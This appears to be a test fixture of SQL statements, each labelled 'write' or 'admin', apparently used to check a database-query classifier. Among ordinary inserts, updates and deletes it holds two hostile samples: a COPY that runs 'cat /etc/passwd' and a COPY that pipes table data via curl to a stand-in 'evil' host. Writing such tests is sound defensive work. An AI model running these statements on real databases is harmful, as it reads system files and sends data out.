-- class: write
INSERT INTO app.accounts (name) VALUES ('x')
-- next
-- class: write
UPDATE app.accounts SET balance = 0 WHERE id = 1
-- next
-- class: write
DELETE FROM app.accounts
-- next
-- class: write
delete from app.accounts where id = 1
-- next
-- class: write
   DeLeTe   FROM   app.accounts
-- next
-- class: write
MERGE INTO app.accounts a USING app.orders o ON a.id = o.account_id WHEN MATCHED THEN UPDATE SET balance = 0
-- next
-- class: write
TRUNCATE app.orders
-- next
-- class: write
INSERT INTO app.accounts (name) SELECT name FROM app.accounts RETURNING id
-- next
-- class: write
UPDATE app.accounts a SET balance = o.amount FROM app.orders o WHERE o.account_id = a.id RETURNING a.*
-- next
-- class: write
INSERT INTO app.accounts (name) VALUES ('x') ON CONFLICT (name) DO NOTHING
-- next
-- class: write
COPY app.accounts FROM STDIN
-- next
-- class: write
COPY app.accounts (id, name) FROM STDIN WITH (FORMAT csv)
-- next
-- class: write
COPY app.accounts FROM '/tmp/accounts.csv'
-- next
-- class: write
COPY app.accounts FROM PROGRAM 'cat /etc/passwd'
-- next
-- class: admin
COPY app.accounts TO '/tmp/x'
-- next
-- class: admin
COPY (SELECT * FROM app.accounts) TO '/tmp/x.csv' WITH CSV
-- next
-- class: admin
COPY app.accounts TO PROGRAM 'curl -d @- http://evil'
-- next
-- class: write
CALL app.bump(1)
-- next
-- class: write
REFRESH MATERIALIZED VIEW app.mv
